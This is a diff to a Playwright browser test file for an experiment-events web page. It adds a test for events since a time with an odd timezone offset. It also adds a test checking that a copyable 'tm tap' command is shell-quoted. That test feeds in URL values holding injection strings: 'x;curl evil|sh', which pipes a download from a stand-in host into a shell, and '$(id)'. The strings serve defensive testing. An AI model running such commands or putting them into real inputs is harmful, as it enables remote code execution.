@@ -1,6 +1,8 @@
 """Each page's main story: what somebody sees, and that it follows what happens without a reload."""
 
 import re
+from datetime import UTC, datetime, timedelta, timezone
+from urllib.parse import urlencode
 
 from playwright.sync_api import Browser, Page, expect
 
@@ -184,6 +186,26 @@ def test_new_events_appear_by_themselves_unless_paused(page: Page, site: Site) -
     expect(events.locator("tr.event", has_text=second)).to_have_count(0)
     page.get_by_role("button", name="Go on").click()
     expect(events.locator("tr.event", has_text=second)).to_have_count(1)
+
+
+def test_a_command_to_copy_is_quoted_for_the_shell_whatever_the_address_says(
+    page: Page, complaints: Complaints
+) -> None:
+    complaints.expected = "400"
+    page.goto("/#/events?name=x;curl%20evil|sh&experiment=k3f9x2ab&writer='$(id)")
+    expect(page.locator(".command code", has_text="tm tap")).to_have_text(
+        r"""tm tap --experiment k3f9x2ab --name 'x;curl evil|sh' --writer ''\''$(id)'"""
+    )
+
+
+def test_new_events_appear_since_a_time_of_any_offset(page: Page, site: Site) -> None:
+    since = (datetime.now(UTC) - timedelta(minutes=1)).astimezone(timezone(timedelta(hours=14)))
+    page.goto(f"/#/events?{urlencode({'name': 'ExperimentSubmitted', 'since': since.isoformat()})}")
+    expect(page.locator("[data-connection=open]")).to_be_visible()
+    expect(page.get_by_text("This is the beginning of the log.")).to_be_visible()
+    later = site.submit("since-an-offset", LEARNING)
+    events = page.get_by_role("group", name="Events")
+    expect(events.locator("tr.event", has_text=later)).to_have_count(1)
 
 
 def test_the_cluster_shows_slots_queue_and_services(page: Page) -> None:
